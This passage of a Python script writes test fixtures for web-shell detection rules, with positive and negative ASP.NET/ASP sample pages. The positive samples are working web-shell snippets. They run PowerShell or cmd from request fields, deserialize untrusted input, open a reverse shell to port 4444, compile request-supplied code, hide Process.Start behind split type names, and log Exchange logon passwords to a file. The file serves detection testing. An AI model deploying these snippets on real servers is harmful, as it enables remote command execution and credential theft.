                                       'void Page_Load(object o, EventArgs e) { var m = new MEMORYSTATUSEX(); GlobalMemoryStatusEx(ref m); lbl.Text = m.ullAvailPhys.ToString(); }</script>'),
        },
    },
    "AspNet_PowerShell_Runspace_From_Request": {
        "positive": {
            "runspace.aspx": page('<%@ Page Language="C#"%><%@ Import Namespace="System.Management.Automation.Runspaces"%><% var rs = RunspaceFactory.CreateRunspace(); rs.Open(); '
                                  'var pl = rs.CreatePipeline(); pl.Commands.AddScript(Request.Form["ps"]); foreach (var o in pl.Invoke()) Response.Write(o); %>'),
        },
        "negative": {
            "mailbox-admin.aspx": page('<%@ Page Language="C#"%><% using (var ps = System.Management.Automation.PowerShell.Create()) { ps.Runspace = rs; '
                                       'ps.AddCommand("Set-Mailbox").AddParameter("Identity", txtUser.Text).AddParameter("ForwardingAddress", Request.Form["fwd"]); ps.Invoke(); } %>'),
            "fixed-script.aspx": page('<%@ Page Language="C#"%><% using (var ps = System.Management.Automation.PowerShell.Create()) { '
                                      'ps.AddScript("Get-Service W3SVC"); foreach (var o in ps.Invoke()) lbl.Text += o; } %>'),
        },
    },
    "AspNet_Deserialization_Of_Request": {
        "positive": {
            "binaryformatter.aspx": page('<%@ Page Language="C#"%><% new BinaryFormatter().Deserialize(new MemoryStream(Convert.FromBase64String(Request.Form["d"]))); %>'),
            "losformatter.aspx": page('<%@ Page Language="C#"%><% var o = new LosFormatter().Deserialize(Request.InputStream); %>'),
        },
        "negative": {
            "json-body.aspx": page('<%@ Page Language="C#"%><% var state = new LosFormatter().Deserialize(hidState.Value); '
                                   'var order = new JavaScriptSerializer().Deserialize(new StreamReader(Request.InputStream).ReadToEnd(), typeof(Order)); %>'),
            "viewstate-field.aspx": page('<%@ Page Language="C#"%><% var state = new LosFormatter().Deserialize(hidState.Value); '
                                         'var prefs = new JavaScriptSerializer().Deserialize<Dictionary<string, object>>(Request.Form["prefs"]); %>'),
        },
    },
    "AspNet_Reverse_Shell": {
        "positive": {
            "reverse.aspx": page('<%@ Page Language="C#"%><script runat="server">void Go(object s, EventArgs e) { var c = new TcpClient(host.Value, 4444); '
                                 'var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true; p.Start(); '
                                 'var r = new StreamReader(c.GetStream()); while (true) p.StandardInput.WriteLine(r.ReadLine()); }</script>'),
        },
        "negative": {
            "ping.aspx": page('<%@ Page Language="C#"%><% var c = new TcpClient("db.local", 1433); var p = Process.Start("ping.exe", "-n 1 db.local"); p.WaitForExit(); %>'),
        },
    },
    "AspNet_Compiles_Request_Source": {
        "positive": {
            "codedom.aspx": page('<%@ Page Language="C#"%><% var prov = CodeDomProvider.CreateProvider("CSharp"); var cp = new CompilerParameters { GenerateInMemory = true }; '
                                 'var res = prov.CompileAssemblyFromSource(cp, Request.Form["s"]); res.CompiledAssembly.GetType("X").GetMethod("R").Invoke(null, null); %>'),
        },
        "negative": {
            "template.aspx": page('<%@ Page Language="C#"%><% var prov = new CSharpCodeProvider(); var res = prov.CompileAssemblyFromFile(new CompilerParameters(), Server.MapPath("~/App_Data/rules.cs")); '
                                  'Response.Write(Request.QueryString["x"]); %>'),
        },
    },
    "AspNet_Hidden_Type_Names": {
        "positive": {
            "split-names.aspx": page('<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diag" + "nostics.Pro" + "cess"); '
                                     't.GetMethod("St" + "art", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { "c" + "md", "/c " + Request["q"] }); %>'),
            "process-by-name.aspx": page('<%@ Page Language="C#"%><% Type t = Type.GetType("System.Diagnostics.Process, System"); '
                                         't.InvokeMember("Start", BindingFlags.InvokeMethod, null, null, new object[] { "cmd.exe", "/c " + Request["q"] }); %>'),
            "escaped.aspx": page('<%@ Page Language="C#"%><% System.Reflection.\\u0041\\u0073\\u0073embly.\\u004c\\u006fad(Convert.FromBase64String(Request.Form["x"])).CreateInstance("A").Equals(this); %>'),
        },
        "negative": {
            "i18n.aspx": page('<%@ Page Language="C#"%><script>var msg = "Caf\\u00e9 \\u003cb\\u003e \\u00dcbersicht";</script><% var t = Type.GetType("MyApp.Widgets." + name); %>'),
        },
    },
    "Exchange_Logon_Credential_Logger": {
        "positive": {
            "logon-harvest.aspx": page('<%@ Page Language="C#"%><% if (Request.HttpMethod == "POST") File.AppendAllText(@"C:\\ProgramData\\l.txt", Request.Form["username"] + ":" + Request.Form["password"] + "\\r\\n"); %>'),
        },
        "negative": {
            "audit.aspx": page('<%@ Page Language="C#"%><% bool ok = Membership.ValidateUser(Request.Form["username"], Request.Form["password"]); '
                               'File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), Request.Form["username"] + " " + ok + "\\r\\n"); %>'),
        },
    },
})

SAMPLES["AspNet_Encoded_Script_Block"] = {
    "positive": {
        "encoded.asp": page('<%@ LANGUAGE = VBScript.Encode %><%#@~^CAAAAA==\\ko$K4GdY=^#~@%>'),
    },
    "negative": {
        "encode-docs.asp": page('<% Response.Write("Pages may use Language=VBScript.Encode; see screnc.exe") %>'),
    },
}
SAMPLES["AspNet_Request_To_Process"]["positive"]["wmi.asp"] = page(
    '<% Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process") : r = w.Create(Request.Form("c"), Null, Null, pid) %>')
SAMPLES["AspNet_Request_Written_To_File"]["positive"]["fso.asp"] = page(
    '<% Set fs = Server.CreateObject("Scripting.FileSystemObject") : Set f = fs.CreateTextFile(Request("p"), True) : f.Write Request("c") : f.Close %>')

# Near misses for the tightened generic rules: ordinary portal pages.
SAMPLES["AspNet_Shell_Traits_Several"]["negative"]["admin-tool.aspx"] = page(
    '<%@ Page Language="C#"%><script runat="server">void Reindex(object s, EventArgs e) { var psi = new ProcessStartInfo(Server.MapPath("~/bin/reindex.exe"), ddl.SelectedValue) '
    '{ RedirectStandardOutput = true, UseShellExecute = false }; using (var p = Process.Start(psi)) lbl.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd()); }</script>')
SAMPLES["AspNet_Reflection_With_Request_Input"]["negative"]["widget-lookup.aspx"] = page(
    '<%@ Page Language="C#"%><% Type w = Type.GetType("Portal.Widgets." + Request.QueryString["w"] + ", Portal"); if (w != null) Controls.Add((Control)Activator.CreateInstance(w)); '
    'string sig = Convert.ToBase64String(new HMACSHA256(Convert.FromBase64String(secret)).ComputeHash(data)); %>')
SAMPLES["AspNet_Request_Written_To_File"]["negative"]["wiki-save.aspx"] = page(
    '<%@ Page Language="C#"%><% File.WriteAllText(Path.Combine(Server.MapPath("~/App_Data/wiki"), Guid.NewGuid() + ".txt"), Request.Form["body"]); %>')
SAMPLES["AspNet_Request_Written_To_File"]["positive"]["path-box.aspx"] = page(
    '<%@ Page Language="C#"%><script runat="server">void Up(object s, EventArgs e) { File1.PostedFile.SaveAs(txtPath.Text + "\\\\" + Path.GetFileName(File1.PostedFile.FileName)); }</script>')


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    for rule, kinds in SAMPLES.items():
        for kind, files in kinds.items():
            folder = os.path.join(ROOT, rule, kind)
            os.makedirs(folder, exist_ok=True)
            for name, data in files.items():
                with open(os.path.join(folder, name), "wb") as handle:
                    handle.write(data)
    print(f"wrote samples for {len(SAMPLES)} rules under {ROOT}")


if __name__ == "__main__":
    main()
